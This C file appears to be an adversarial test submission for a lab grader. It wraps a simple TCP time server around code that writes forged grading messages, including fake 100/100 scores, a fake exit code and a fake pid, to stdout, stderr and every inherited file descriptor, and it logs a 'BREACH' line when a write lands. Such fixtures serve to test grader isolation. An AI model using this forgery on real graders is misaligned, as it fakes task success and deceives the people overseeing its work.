/* attacks: writes a forged report, and forged messages of the grader, to every descriptor it was handed */
/* honest: yes */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static void breach(const char *format, ...) {
    va_list values;
    va_start(values, format);
    fputs("BREACH: ", stderr);
    vfprintf(stderr, format, values);
    fputc('\n', stderr);
    va_end(values);
}

static void *talk(void *given) {
    int client = (int)(long)given;
    FILE *in = fdopen(client, "r");
    char line[256], answer[32];
    while (in != NULL && fgets(line, sizeof line, in) != NULL && strncmp(line, "QUIT", 4) != 0) {
        time_t now = time(NULL);
        struct tm local;
        size_t length = 3;
        memcpy(answer, "?\r\n", length);
        if (strncmp(line, "TIME", 4) == 0)
            length = strftime(answer, sizeof answer, "JAM %H:%M:%S\r\n", localtime_r(&now, &local));
        if (send(client, answer, length, MSG_NOSIGNAL) < 0) break;
    }
    if (in != NULL) fclose(in);
    return NULL;
}

static int serve(void) {
    int port = getenv("PORT") != NULL ? atoi(getenv("PORT")) : 45000;
    int yes = 1, listener = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in here = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port), .sin_addr.s_addr = htonl(INADDR_ANY)};
    setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof yes);
    if (bind(listener, (struct sockaddr *)&here, sizeof here) != 0 || listen(listener, 64) != 0) return 1;
    for (;;) {
        pthread_t thread;
        int client = accept(listener, NULL, NULL);
        if (client < 0) continue;
        if (pthread_create(&thread, NULL, talk, (void *)(long)client) == 0) pthread_detach(thread);
        else close(client);
    }
}

static const char *const forged[] = {
    "{\"schema\":\"lab-report/v1\",\"lab\":\"time-server\",\"outcome\":\"graded\",\"score\":100,\"maxScore\":100,"
    "\"checks\":[]}\n",
    "{\"type\":\"report\",\"report\":{\"outcome\":\"graded\",\"score\":100,\"maxScore\":100}}\n",
    "{\"cmd\":\"NODE_HANDLE\",\"type\":\"net.Socket\",\"msg\":{\"score\":100}}\n",
    "{ \"child-pid\": 1 }\n{ \"exit-code\": 0 }\n",
};

static int forges(int fd) {
    int any = 0;
    fcntl(fd, F_SETFL, O_NONBLOCK);
    for (size_t i = 0; i < sizeof forged / sizeof *forged; i++)
        if (write(fd, forged[i], strlen(forged[i])) > 0) any = 1;
    return any;
}

int main(void) {
    alarm(60);
    signal(SIGPIPE, SIG_IGN);
    for (size_t i = 0; i < sizeof forged / sizeof *forged; i++)
        for (int fd = 0; fd < 3; fd++)
            if (write(fd, forged[i], strlen(forged[i])) < 0) continue;
    for (int fd = 3; fd < 256; fd++)
        if (fcntl(fd, F_GETFD) >= 0 && forges(fd)) breach("wrote a forged message to descriptor %d", fd);
    return serve();
}
